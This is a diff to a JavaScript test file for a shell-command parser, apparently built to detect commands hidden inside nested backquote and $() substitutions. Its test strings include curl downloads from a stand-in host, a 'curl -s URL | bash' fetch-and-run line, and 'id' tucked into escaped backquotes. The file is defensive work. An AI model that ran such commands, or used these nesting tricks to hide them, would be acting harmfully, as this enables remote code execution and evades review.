@@ -72,9 +72,11 @@ describe('readShell', () => {
       { words: ['curl', 'https://x.example/i.sh'], op: '|', depth: 1 },
       { words: ['tr', '-d', ')'], depth: 1 },
     ]);
-    // `$(…)` inside backquotes and backquotes inside `$(…)`; an escaped backquote (the old nesting) is text of the outer one.
+    // `$(…)` inside backquotes and backquotes inside `$(…)`; an escaped backquote inside backquotes (the old nesting) is a
+    // nested substitution, as the shell runs it (verify28c: it was text, so `id` / a download in it went unseen).
     expect(words('a `b $(c) d` $(e `f`)')).toEqual([['a', '`b $(c) d`', '$(e `f`)'], ['b', '$(c)', 'd'], ['c'], ['e', '`f`'], ['f']]);
-    expect(words('echo "`echo \\`id\\``"')).toEqual([['echo', '`echo \\`id\\``'], ['echo', '`id`']]);
+    expect(words('echo "`echo \\`id\\``"')).toEqual([['echo', '`echo \\`id\\``'], ['echo', '\\`id\\`'], ['id']]);
+    expect(words('X=`echo \\`curl -s https://x.example/v\\` ok`; echo "\\`"')).toEqual([['X=`echo \\`curl -s https://x.example/v\\` ok`'], ['echo', '\\`curl -s https://x.example/v\\`', 'ok'], ['curl', '-s', 'https://x.example/v'], ['echo', '`']]);
     expect(words('echo \\`id\\` x')).toEqual([['echo', '`id`', 'x']]);
     // Unclosed, it runs to the end of the script.
     expect(readShell('x `curl -s URL | bash')).toEqual([
@@ -142,6 +144,8 @@ describe('readShell', () => {
       '$("'.repeat(n), `"${'$( "'.repeat(n)}`, `<(${'('.repeat(n)}`, "'\"".repeat(n), '\\'.repeat(4 * n + 1), '$(('.repeat(n), ')'.repeat(4 * n),
       '`'.repeat(4 * n + 1), '`$("'.repeat(n), '"`\''.repeat(n), '$(case x in '.repeat(n / 2), 'case x in a) '.repeat(n / 4), '$(case x in a) ;; '.repeat(n / 4),
       `${'`case x in ('.repeat(n / 4)}${')'.repeat(n)}`, 'esac) '.repeat(n), `${'a<'.repeat(n)}${'&'.repeat(2 * n)}`, `x${'#`'.repeat(n)}`,
+      // Escaped backquotes inside backquotes (a nested substitution, one level): opened and closed, unbalanced, in quotes.
+      '`\\`'.repeat(n), `${'`a \\`b '.repeat(n / 2)}`, `"\`${'\\`$(\\`'.repeat(n / 2)}`,
     ];
     for (const s of adversarial) {
       expect(s.length).toBeGreaterThanOrEqual(n);
